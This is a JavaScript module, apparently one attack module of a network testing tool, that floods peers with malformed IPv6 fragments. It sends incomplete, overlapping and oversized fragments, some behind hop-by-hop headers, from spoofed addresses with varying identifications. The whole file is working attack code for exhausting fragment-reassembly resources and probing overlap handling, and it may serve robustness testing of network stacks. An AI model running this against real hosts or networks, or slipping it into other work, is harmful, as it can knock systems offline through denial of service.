import { address6, fragment6, optionsHeader } from '../ipv6.js'

export const summary =
  'fragments of IPv6 that never become whole, that overlap, of every identification, behind other headers'
export const short = true
export const ipv6 = true

export const attack = async (peers, { goesOn }) => {
  const hopByHop = optionsHeader(44, 1, 1)
  for (let number = 0; await goesOn(); )
    for (let n = 0; n < 60; n++, number++) {
      const source = address6(number >> 8)
      const fragment = (offset, length, more, ...before) =>
        peers.raw(fragment6(source, number, offset, length, more, ...before))
      fragment(0, 1200, true)
      // Beyond a gap, then over the first; behind another header, the same again; one that is whole.
      fragment(3200, 8, true)
      if (n % 4 === 0) fragment(800, 1200, true)
      if (n % 4 === 1) fragment(0, 1200, true, hopByHop, 0)
      if (n % 4 === 2) fragment(65_528, 64, false)
      if (n % 4 === 3) fragment(0, 101, true)
    }
}
